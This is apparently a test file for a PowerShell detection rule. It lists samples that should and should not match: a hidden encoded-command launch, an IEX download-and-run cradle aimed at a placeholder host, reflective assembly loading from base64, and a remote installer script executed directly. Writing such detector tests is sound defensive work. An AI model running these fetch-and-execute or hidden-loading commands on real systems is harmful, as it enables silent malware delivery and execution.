# ruleid: hidden-execution-powershell
powershell -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAu
# ruleid: hidden-execution-powershell
IEX (New-Object Net.WebClient).DownloadString('https://a.invalid/x.ps1')
# ruleid: hidden-execution-powershell
[Reflection.Assembly]::Load([Convert]::FromBase64String($text))
# ok: hidden-execution-powershell
powershell -File .\build.ps1
# ok: hidden-execution-powershell
$bytes = [Convert]::FromBase64String($text)
# ok: hidden-execution-powershell
iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))
